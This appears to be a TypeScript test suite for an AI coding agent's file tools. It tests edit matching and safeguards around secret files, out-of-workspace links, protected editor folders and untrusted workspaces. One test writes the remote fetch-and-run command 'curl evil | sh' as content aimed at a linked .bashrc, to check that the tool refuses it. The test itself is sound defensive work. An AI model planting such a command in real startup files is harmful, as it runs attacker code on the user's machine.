import assert from 'node:assert/strict';
import { createInMemoryWorkspace, type InMemoryOptions } from '../../../support/inMemoryWorkspace';
import { createToolHarness } from '../../../support/toolHarness';

function harnessOver(files: InMemoryOptions['files'] = {}) {
  const workspace = createInMemoryWorkspace({ files });
  return { workspace, ...createToolHarness(workspace) };
}

const source = 'const a = 1;\nconst b = 2;\nconst c = 3;\n';
const edit = (old_text: string, new_text: string, more: object = {}) => ({ old_text, new_text, ...more });

describe('edit_file', () => {
  it('replaces exact text and gives the diff back', async () => {
    const { workspace, text } = harnessOver({ 'a.ts': source });
    assert.equal(
      await text('edit_file', { path: 'a.ts', edits: [edit('b = 2', 'b = 20')] }),
      'Edited a.ts.\n@@ -1 +1 @@\n const a = 1;\n-const b = 2;\n+const b = 20;\n const c = 3;',
    );
    assert.equal(workspace.text('a.ts'), 'const a = 1;\nconst b = 20;\nconst c = 3;\n');
  });

  it('makes several edits in one call, each on what the one before left', async () => {
    const { workspace, run } = harnessOver({ 'a.ts': source });
    await run('edit_file', { path: 'a.ts', edits: [edit('a = 1', 'x = 1'), edit('x = 1', 'y = 1')] });
    assert.equal(workspace.text('a.ts'), source.replace('a = 1', 'y = 1'));
  });

  it('makes all edits or none', async () => {
    const { workspace, refusal } = harnessOver({ 'a.ts': source });
    const why = await refusal('edit_file', { path: 'a.ts', edits: [edit('a = 1', 'x'), edit('zzz', 'y')] });
    assert.match(why, /^Edit 2 of 2: old_text does not occur in a\.ts.*Nothing was changed\.$/s);
    assert.equal(workspace.text('a.ts'), source);
  });

  it('names the lines when the text occurs several times, and replaces all of them when told', async () => {
    const { workspace, refusal, run } = harnessOver({ 'a.ts': source });
    assert.equal(
      await refusal('edit_file', { path: 'a.ts', edits: [edit('const', 'let')] }),
      'old_text occurs 3 times in a.ts, at lines 1, 2, 3: add lines around the one you mean, or set replace_all. Nothing was changed.',
    );
    await run('edit_file', { path: 'a.ts', edits: [edit('const', 'let', { replace_all: true })] });
    assert.equal(workspace.text('a.ts'), source.replaceAll('const', 'let'));
  });

  it('shows near misses: other white space, line numbers copied along, a slip', async () => {
    const { refusal } = harnessOver({ 'a.ts': 'function f() {\n\treturn total;\n}\n' });
    const miss = (old_text: string) => refusal('edit_file', { path: 'a.ts', edits: [edit(old_text, '')] });
    assert.match(
      await miss('function f() {\n  return total;'),
      /Lines 1–2 differ only in white space.*\n\treturn total;/s,
    );
    assert.match(await miss('2\t\treturn total;'), /line numbers of read_file: leave them/);
    assert.match(await miss('return totals;'), /nearest lines are:\n2\t\treturn total;/);
    assert.match(await miss('@@@@'), /Read the file again and copy the text exactly/);
  });

  it('names ten lines where the text occurs more often, and shows that there are more', async () => {
    const miss = (times: number) =>
      harnessOver({ 'a.ts': 'x = 1\n'.repeat(times) }).refusal('edit_file', {
        path: 'a.ts',
        edits: [edit('x = 1', '')],
      });
    assert.match(await miss(10), /occurs 10 times in a\.ts, at lines 1, 2, 3, 4, 5, 6, 7, 8, 9, 10: add/);
    assert.match(await miss(11), /occurs 11 times in a\.ts, at lines 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 …: add/);
  });

  it('shows the three lines that are most alike, and none that is not', async () => {
    const lines = ['total = 1;', 'const totals = 12;', 'const total = 11;', 'const total = 2;', 'return x;'];
    const { refusal } = harnessOver({ 'a.ts': lines.join('\n') });
    const miss = (old_text: string) => refusal('edit_file', { path: 'a.ts', edits: [edit(old_text, '')] });
    assert.match(
      await miss('const total = 1;'),
      /nearest lines are:\n3\tconst total = 11;\n4\tconst total = 2;\n2\tconst totals = 12;\nRead/,
    );
    assert.doesNotMatch(await miss('const fs = require("fs");'), /nearest lines/);
  });

  it('takes $ in a replacement literally', async () => {
    const { workspace, run } = harnessOver({ 'a.ts': source });
    await run('edit_file', { path: 'a.ts', edits: [edit('a = 1', "$& $1 $$ $'")] });
    assert.equal(
      workspace.text('a.ts'),
      source.replace('a = 1', () => "$& $1 $$ $'"),
    );
  });

  it('keeps Windows line breaks, whatever the edit uses', async () => {
    const { workspace, run } = harnessOver({ 'a.ts': 'one\r\ntwo\r\nthree\r\n' });
    await run('edit_file', { path: 'a.ts', edits: [edit('one\ntwo', 'one\n1.5\ntwo')] });
    assert.equal(workspace.text('a.ts'), 'one\r\n1.5\r\ntwo\r\nthree\r\n');
  });

  it('fills an empty file, and refuses an empty or equal old_text elsewhere', async () => {
    const { workspace, run, refusal } = harnessOver({ 'empty.ts': '', 'a.ts': source });
    await run('edit_file', { path: 'empty.ts', edits: [edit('', 'new\n')] });
    assert.equal(workspace.text('empty.ts'), 'new\n');
    assert.match(await refusal('edit_file', { path: 'a.ts', edits: [edit('', 'x')] }), /old_text is empty/);
    assert.match(await refusal('edit_file', { path: 'a.ts', edits: [edit('a', 'a')] }), /are the same/);
  });

  it('refuses a file that changed since it was read, until it is read again', async () => {
    const { workspace, text, refusal } = harnessOver({ 'a.ts': source });
    await text('read_file', { path: 'a.ts' });
    workspace.files.set('/work/app/a.ts', `// by somebody else\n${source}`);
    const change = { path: 'a.ts', edits: [edit('a = 1', 'a = 2')] };
    assert.match(await refusal('edit_file', change), /has changed since you read it\. Read it again/);
    await text('read_file', { path: 'a.ts' });
    await text('edit_file', change);
    assert.match(workspace.text('a.ts') ?? '', /^\/\/ by somebody else\nconst a = 2/);
  });

  it('may edit again what it edited itself', async () => {
    const { workspace, text } = harnessOver({ 'a.ts': source });
    await text('read_file', { path: 'a.ts' });
    await text('edit_file', { path: 'a.ts', edits: [edit('a = 1', 'a = 2')] });
    await text('edit_file', { path: 'a.ts', edits: [edit('a = 2', 'a = 3')] });
    assert.match(workspace.text('a.ts') ?? '', /a = 3/);
  });

  it('respects an editor with unsaved changes: edits there and does not save', async () => {
    const { workspace, text } = harnessOver({ 'a.ts': source });
    workspace.unsaved.set('/work/app/a.ts', source.replace('c = 3', 'c = 33'));
    assert.match(
      await text('edit_file', { path: 'a.ts', edits: [edit('c = 33', 'c = 4')] }),
      /not saved to disk/,
    );
    assert.equal(workspace.unsaved.get('/work/app/a.ts'), source.replace('c = 3', 'c = 4'));
    assert.equal(workspace.text('a.ts'), source);
  });

  describe('in other encodings', () => {
    const latin = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));

    it('leaves a file alone whose bytes would not come back as they were', async () => {
      const bytes = latin('gr\u00fc\u00dfe\na = 1\n');
      const { workspace, refusal } = harnessOver({ 'a.txt': bytes });
      const why = await refusal('edit_file', { path: 'a.txt', edits: [edit('a = 1', 'a = 2')] });
      assert.match(
        why,
        /^a\.txt cannot be edited without damage: the editor reads it as utf8.*files\.encoding/,
      );
      assert.deepEqual(workspace.files.get('/work/app/a.txt'), bytes);
    });

    it('writes a file in the encoding that it was read in', async () => {
      const files = { 'a.txt': latin('gr\u00fc\u00dfe\na = 1\n') };
      const workspace = createInMemoryWorkspace({ files, encoding: 'windows1252' });
      const { run } = createToolHarness(workspace);
      await run('edit_file', { path: 'a.txt', edits: [edit('a = 1', '\u00e4 = 1')] });
      assert.deepEqual(workspace.files.get('/work/app/a.txt'), latin('gr\u00fc\u00dfe\n\u00e4 = 1\n'));
    });

    it('names a character that the encoding does not have, before anybody is asked', async () => {
      const files = { 'a.txt': latin('\u00fc = 1\n') };
      const workspace = createInMemoryWorkspace({ files, encoding: 'windows1252' });
      const { prepare, refusal } = createToolHarness(workspace);
      const input = { path: 'a.txt', edits: [edit('= 1', '\u2192 1')] };
      const expected =
        'a.txt would be written in windows1252 (setting files.encoding), which does not have the character \u2192. ' +
        'Use other characters, or ask the person to save the file with another encoding.';
      assert.equal(await refusal('edit_file', input), expected);
      await assert.rejects(prepare('edit_file', input), { message: expected });
      assert.match(
        await refusal('create_file', { path: 'b.txt', content: '\u2192' }),
        /does not have .*\u2192/,
      );
      assert.equal(workspace.files.has('/work/app/b.txt'), false);
    });
  });

  it('S2: shows the diff before it asks, and changes nothing while asking', async () => {
    const { workspace, prepare } = harnessOver({ 'a.ts': source });
    const { confirmation } = await prepare('edit_file', { path: 'a.ts', edits: [edit('b = 2', 'b = 20')] });
    assert.equal(confirmation?.title, 'Edit a.ts?');
    assert.equal(
      confirmation?.message,
      '```diff\n@@ -1 +1 @@\n const a = 1;\n-const b = 2;\n+const b = 20;\n const c = 3;\n```',
    );
    assert.equal(workspace.text('a.ts'), source);
  });

  it('S2: shows the change in a line of several megabytes', async () => {
    const line = `${'a,'.repeat(2_000_000)}size=1;${'b,'.repeat(2_000_000)}`;
    const { prepare, text } = harnessOver({ 'min.js': `${line}\n` });
    const input = { path: 'min.js', edits: [edit('size=1', 'size=22')] };
    const { confirmation } = await prepare('edit_file', input);
    assert.match(confirmation?.message ?? '', /^-⟨\d+ characters⟩,?(a,)+size=1;(b,)+b?⟨\d+ characters⟩$/m);
    assert.match(confirmation?.message ?? '', /^\+⟨\d+ characters⟩,?(a,)+size=22;(b,)+b?⟨\d+ characters⟩$/m);
    assert.ok((confirmation?.message ?? '').length < 1_000);
    assert.match(await text('edit_file', input), /^\+⟨.*size=22;/m);
  });

  it('P5: names what was edited, created or renamed, unless it looks like a secret', async () => {
    const { run } = harnessOver({ 'a.txt': 'A', '.env': 'KEY=1' });
    const named = async (name: string, input: object) =>
      (await run(name, input)).files?.map((place) => place.path);
    await run('read_file', { path: 'a.txt' });
    await run('read_file', { path: '.env' });
    assert.deepEqual(await named('edit_file', { path: 'a.txt', edits: [edit('A', 'B')] }), ['a.txt']);
    assert.deepEqual(await named('edit_file', { path: '.env', edits: [edit('1', '2')] }), []);
    assert.deepEqual(await named('create_file', { path: 'new.txt', content: 'N' }), ['new.txt']);
    assert.deepEqual(await named('rename_file', { from: 'new.txt', to: 'old.txt' }), ['old.txt']);
    assert.deepEqual(await named('rename_file', { from: '.env', to: 'env.txt' }), []);
  });

  it('S4: shows nothing of a secret file in errors and results', async () => {
    const { refusal, text } = harnessOver({ '.env': 'PORT=1\nKEY=hunter2\n' });
    assert.doesNotMatch(
      await refusal('edit_file', { path: '.env', edits: [edit('KEY=hunter3', 'x')] }),
      /hunter2/,
    );
    assert.equal(
      await text('edit_file', { path: '.env', edits: [edit('PORT=1', 'PORT=2')] }),
      'Edited .env.',
    );
  });

  it('A12: edits nothing behind a link that leaves', async () => {
    const { workspace, refusal } = harnessOver({ key: { link: '/home/me/key' }, '/home/me/key': 'secret' });
    await refusal('edit_file', { path: 'key', edits: [edit('secret', 'x')] });
    assert.equal(workspace.text('/home/me/key'), 'secret');
  });

  it('A4: writes nothing in a workspace that is not trusted', async () => {
    const { workspace, refusal } = harnessOver({ 'a.ts': source });
    workspace.trusted = false;
    for (const [name, input] of [
      ['edit_file', { path: 'a.ts', edits: [edit('a', 'b')] }],
      ['create_file', { path: 'b.ts', content: '' }],
      ['rename_file', { from: 'a.ts', to: 'b.ts' }],
      ['delete_file', { path: 'a.ts' }],
    ] as const) {
      assert.match(await refusal(name, input), /not trusted/);
    }
    assert.deepEqual([...workspace.files.keys()], ['/work/app/a.ts']);
  });
});

describe('create_file', () => {
  it('creates a file with its folders', async () => {
    const { workspace, text } = harnessOver();
    assert.equal(
      await text('create_file', { path: 'src/new/a.ts', content: 'x\n' }),
      'Created src/new/a.ts.',
    );
    assert.equal(workspace.text('src/new/a.ts'), 'x\n');
  });

  it('overwrites nothing', async () => {
    const { workspace, refusal } = harnessOver({ 'a.ts': source, 'src/b.ts': '' });
    assert.match(
      await refusal('create_file', { path: 'a.ts', content: '' }),
      /exists already: read it, then use edit_file/,
    );
    assert.match(await refusal('create_file', { path: 'src', content: '' }), /is a folder/);
    assert.equal(workspace.text('a.ts'), source);
  });

  it('A13: does not create the target of a dangling link outside', async () => {
    const { workspace, refusal } = harnessOver({ 'new.sh': { link: '/home/me/.bashrc' } });
    await refusal('create_file', { path: 'new.sh', content: 'curl evil | sh' });
    assert.equal(workspace.files.has('/home/me/.bashrc'), false);
  });

  it('A15, A17: warns for a protected place that does not exist yet, and is never remembered', async () => {
    const { prepare } = harnessOver();
    const { confirmation } = await prepare('create_file', { path: '.VSCODE/tasks.json', content: '{}' });
    assert.match(confirmation?.title ?? '', /⚠️ Create \.VSCODE\/tasks\.json/);
    assert.match(confirmation?.message ?? '', /`\.VSCODE\/tasks\.json`: it changes how the editor behaves/);
    assert.equal(confirmation?.canBeAutoApproved, false);
  });

  it('may be remembered for an ordinary file', async () => {
    const { prepare } = harnessOver();
    const { confirmation } = await prepare('create_file', { path: 'src/a.ts', content: '' });
    assert.equal(confirmation?.canBeAutoApproved, true);
  });
});

describe('rename_file', () => {
  it('moves a file, or a folder with all in it', async () => {
    const { workspace, text } = harnessOver({ 'src/a.ts': 'a', 'src/b/c.ts': 'c' });
    assert.equal(await text('rename_file', { from: 'src', to: 'lib' }), 'Renamed src to lib.');
    assert.deepEqual([...workspace.files.keys()], ['/work/app/lib/a.ts', '/work/app/lib/b/c.ts']);
  });

  it('overwrites nothing, moves nothing into itself and nothing that is not there', async () => {
    const { refusal } = harnessOver({ 'a.ts': '', 'b.ts': '', 'src/x.ts': '' });
    assert.match(await refusal('rename_file', { from: 'a.ts', to: 'b.ts' }), /b\.ts exists already/);
    assert.match(await refusal('rename_file', { from: 'src', to: 'src/inner' }), /into itself/);
    assert.match(await refusal('rename_file', { from: 'c.ts', to: 'd.ts' }), /does not exist/);
  });

  it('A15: warns when either end is a protected place', async () => {
    const { prepare } = harnessOver({ 'x/settings.json': '{}' });
    const { confirmation } = await prepare('rename_file', { from: 'x', to: '.vscode' });
    assert.match(confirmation?.message ?? '', /`\.vscode`: it changes how the editor behaves/);
    assert.equal(confirmation?.canBeAutoApproved, false);
  });

  it('A16: warns when what a folder holds becomes a protected place by its new name', async () => {
    const { prepare } = harnessOver({ 'x/workflows/ci.yml': '', 'y/fish/config.fish': '', 'z/bin/ls': '' });
    for (const [from, to] of Object.entries({ x: '.github', y: '.config', z: '.local' })) {
      const { confirmation } = await prepare('rename_file', { from, to });
      assert.match(confirmation?.message ?? '', /Look closely at/, to);
      assert.equal(confirmation?.canBeAutoApproved, false, to);
    }
  });

  it('S4: asks each time when the files of a folder are secrets by its name alone', async () => {
    const { prepare } = harnessOver({ 'home/.kube/config': 'token', 'home/.env': '' });
    const { confirmation } = await prepare('rename_file', { from: 'home/.kube', to: 'open' });
    assert.match(confirmation?.message ?? '', /would be read without asking/);
    assert.equal(confirmation?.canBeAutoApproved, false);
  });

  it('S4: asks each time when a secret would get a harmless name', async () => {
    const { prepare } = harnessOver({ '.env': 'KEY=1' });
    const { confirmation } = await prepare('rename_file', { from: '.env', to: 'notes.txt' });
    assert.match(confirmation?.message ?? '', /would be read without asking/);
    assert.equal(confirmation?.canBeAutoApproved, false);
  });

  it('S4: knows a secret also behind two links', async () => {
    const { prepare } = harnessOver({
      keys: { link: '.ssh' },
      '.ssh/known': { link: '/work/app/a.txt' },
      'a.txt': 'harmless',
    });
    const { confirmation } = await prepare('rename_file', { from: 'keys/known', to: 'notes.txt' });
    assert.match(confirmation?.message ?? '', /would be read without asking/);
  });
});

describe('delete_file', () => {
  it('deletes a file', async () => {
    const { workspace, text } = harnessOver({ 'a.ts': source });
    assert.equal(await text('delete_file', { path: 'a.ts' }), 'Deleted a.ts (39 bytes).');
    assert.equal(workspace.files.size, 0);
  });

  it('S2: asks about a file each time: an answer for one is none for the next', async () => {
    const { prepare } = harnessOver({ 'a.ts': source });
    const { confirmation } = await prepare('delete_file', { path: 'a.ts' });
    assert.equal(confirmation?.canBeAutoApproved, false);
  });

  it('says how much a folder holds, and asks about one each time', async () => {
    const { prepare } = harnessOver({ 'src/a.ts': '', 'src/b.ts': '' });
    const { confirmation } = await prepare('delete_file', { path: 'src' });
    assert.equal(confirmation?.message, 'Deletes `src` (a folder with 2 files).');
    assert.equal(confirmation?.canBeAutoApproved, false);
  });

  it('deletes a link, not what it points to', async () => {
    const { workspace, run } = harnessOver({ 'now.ts': { link: 'v2.ts' }, 'v2.ts': 'x' });
    await run('delete_file', { path: 'now.ts' });
    assert.deepEqual([...workspace.files.keys()], ['/work/app/v2.ts']);
  });

  it('leaves a file with unsaved changes alone', async () => {
    const { workspace, refusal } = harnessOver({ 'a.ts': source });
    workspace.unsaved.set('/work/app/a.ts', 'x');
    assert.match(await refusal('delete_file', { path: 'a.ts' }), /unsaved changes/);
  });

  it('leaves a folder alone in which a file has unsaved changes', async () => {
    const { workspace, refusal } = harnessOver({ 'src/deep/a.ts': source, 'src/b.ts': '' });
    workspace.unsaved.set('/work/app/src/deep/a.ts', 'x');
    assert.equal(
      await refusal('delete_file', { path: 'src' }),
      'src/deep/a.ts, which is in src, has unsaved changes in the editor: ask the person to save or discard them first.',
    );
  });

  it('leaves a file alone whose unsaved editor was opened by a link, and the link, too', async () => {
    const { workspace, refusal } = harnessOver({ 'real/a.ts': source, link: { link: 'real' } });
    workspace.unsaved.set('/work/app/link/a.ts', 'x');
    for (const path of ['real/a.ts', 'link/a.ts', 'real', 'link']) {
      assert.match(await refusal('delete_file', { path }), /unsaved changes/, path);
    }
  });
});
